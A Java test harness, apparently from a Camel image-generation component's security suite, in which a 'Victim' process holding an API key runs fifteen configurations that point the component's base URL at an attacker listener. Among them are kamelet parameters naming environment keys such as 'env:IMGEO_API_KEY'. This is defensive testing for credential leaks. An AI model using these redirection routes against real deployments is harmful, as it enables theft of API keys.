package club.imgeo.attack;

import club.imgeo.camel.ImgeoComponent;
import jakarta.enterprise.context.Dependent;
import jakarta.enterprise.inject.se.SeContainer;
import jakarta.enterprise.inject.se.SeContainerInitializer;
import java.util.Map;
import org.apache.camel.CamelContext;
import org.apache.camel.Exchange;
import org.apache.camel.health.HealthCheckHelper;
import org.apache.camel.main.Main;
import org.assertj.core.util.Throwables;
import org.jspecify.annotations.Nullable;
import org.springframework.boot.SpringBootConfiguration;
import org.springframework.boot.WebApplicationType;
import org.springframework.boot.autoconfigure.EnableAutoConfiguration;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.context.ConfigurableApplicationContext;

/**
 * A process with a key in its environment. It obeys one attacker's configuration after the other, each with an address
 * whose path names it, and prints why those fail that do.
 */
final class Victim {
    private static final String BASE_URL = "camel.component.imgeo.base-url";
    private static final String GENERATE = "imgeo:generate?model=black-forest-labs/flux-schnell";

    private Victim() {}

    /** @param arguments the listener's address, and a key of the component's own */
    public static void main(String[] arguments) {
        String evil = arguments[0];
        String key = arguments[1];
        attempt("operator", () -> sendBy(Map.of(), GENERATE));
        attempt("property", () -> sendBy(Map.of(BASE_URL, evil + "/property"), GENERATE));
        attempt("balance", () -> sendBy(Map.of(BASE_URL, evil + "/balance"), "imgeo:balance"));
        attempt("models", () -> sendBy(Map.of(BASE_URL, evil + "/models"), "imgeo:models"));
        attempt("prefix", () -> sendBy(Map.of(BASE_URL, evil + "/operator/gateway2"), GENERATE));
        attempt("host", () -> sendBy(Map.of(BASE_URL, evil), GENERATE));
        attempt("kamelet", () -> sendBy(Map.of(), kamelet(evil + "/kamelet", "")));
        attempt("namedKey", () -> sendBy(Map.of(), kamelet(evil + "/namedKey", "&apiKey=env:IMGEO_API_KEY")));
        attempt("otherKey", () -> sendBy(Map.of(), kamelet(evil + "/otherKey", "&apiKey=env:SECOND_KEY")));
        Map<String, String> shared = Map.of(BASE_URL, evil + "/own", "camel.component.imgeo.api-key", key);
        attempt("own", () -> sendBy(shared, GENERATE));
        attempt("sharedKey", () -> sendBy(shared, kamelet(evil + "/sharedKey", "")));
        attempt("sharedModels", () -> sendBy(shared, "kamelet:imgeo-models-action?baseUrl=" + evil + "/sharedModels"));
        attempt("component", () -> sendBySecondComponent(evil + "/component"));
        attempt("spring", () -> sendInSpring(evil + "/spring"));
        attempt("cdi", () -> sendInCdi(evil + "/cdi"));
    }

    private static String kamelet(String baseUrl, String more) {
        return "kamelet:imgeo-generate-action?baseUrl=" + baseUrl + more;
    }

    private interface Attack {
        void run() throws Exception;
    }

    private static void attempt(String name, Attack attack) {
        try {
            attack.run();
        } catch (Exception e) {
            System.out.println(name + ": " + Throwables.getStackTrace(e).replaceAll("\\R", " "));
        }
    }

    private static void sendBy(Map<String, String> properties, String uri) throws Exception {
        Main camel = new Main();
        properties.forEach(camel::addInitialProperty);
        try {
            camel.start();
            send(camel.getCamelContext(), uri);
        } finally {
            camel.stop();
        }
    }

    private static void sendBySecondComponent(String baseUrl) throws Exception {
        Main camel = new Main();
        ImgeoComponent second = new ImgeoComponent();
        second.setBaseUrl(baseUrl);
        camel.bind("second", second);
        try {
            camel.start();
            send(camel.getCamelContext(), GENERATE.replace("imgeo:", "second:"));
        } finally {
            camel.stop();
        }
    }

    private static void sendInSpring(String baseUrl) throws Exception {
        try (ConfigurableApplicationContext spring = new SpringApplicationBuilder(Application.class)
                .web(WebApplicationType.NONE)
                .run("--" + BASE_URL + "=" + baseUrl)) {
            send(spring.getBean(CamelContext.class), GENERATE);
        }
    }

    private static void sendInCdi(String baseUrl) throws Exception {
        System.setProperty(BASE_URL, baseUrl);
        try (SeContainer cdi = SeContainerInitializer.newInstance()
                .disableDiscovery()
                .addBeanClasses(Bean.class)
                .initialize()) {
            send(cdi.select(CamelContext.class).get(), GENERATE);
        } finally {
            System.clearProperty(BASE_URL);
        }
    }

    /** Asks the health checks, too, which call the API by themselves. */
    private static void send(CamelContext camel, String uri) throws Exception {
        @Nullable Exception thrown = null;
        try {
            Exchange answer = camel.createProducerTemplate()
                    .request(uri, exchange -> exchange.getIn().setBody("a fox"));
            thrown = answer.getException();
        } catch (RuntimeException e) {
            thrown = e;
        }
        HealthCheckHelper.invokeReadiness(camel);
        if (thrown != null) {
            throw thrown;
        }
    }

    /** A container with no bean does not start. */
    @Dependent
    static class Bean {}

    @SpringBootConfiguration
    @EnableAutoConfiguration
    static class Application {}
}
